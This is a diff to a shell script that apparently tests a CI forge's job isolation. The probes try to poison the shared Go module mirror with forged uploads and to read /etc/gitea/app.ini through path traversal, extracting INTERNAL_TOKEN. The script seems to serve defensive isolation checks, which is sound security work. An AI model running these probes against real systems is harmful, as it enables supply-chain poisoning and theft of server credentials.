@@ -86,12 +86,14 @@ outer_half() {
 cache_leases() { timeout 3 bash -c "exec 3<> /dev/tcp/$FORGE_ADDRESS/31009"; }
 # The mirror of Go modules, which serves all jobs: its content, and files beside it.
 poisons_modules() {
-  local mirror=${ACTIONS_CACHE_URL:-http://$FORGE_ADDRESS:31008/}go-modules method
+  local mirror=${ACTIONS_CACHE_URL:-http://$FORGE_ADDRESS:31008/}go-modules method path
   for method in PUT POST PATCH; do
     curl --silent --fail --request $method --data 'module example.org/m' "$mirror/example.org/m/@v/v1.0.0.mod" && return
   done
-  curl --silent --fail --path-as-is "$mirror/../../../../../etc/gitea/app.ini" ||
-    curl --silent --fail --path-as-is "$mirror/example.org/m/@v/../../../../../../../../etc/gitea/app.ini"
+  for path in "" /example.org/m/@v; do
+    curl --silent --fail --location --path-as-is "$mirror$path/../../../../../../../../etc/gitea/app.ini" | grep INTERNAL_TOKEN && return
+  done
+  false
 }
 # The cache's entries of others, with the job's own token and without one.
 other_caches() {
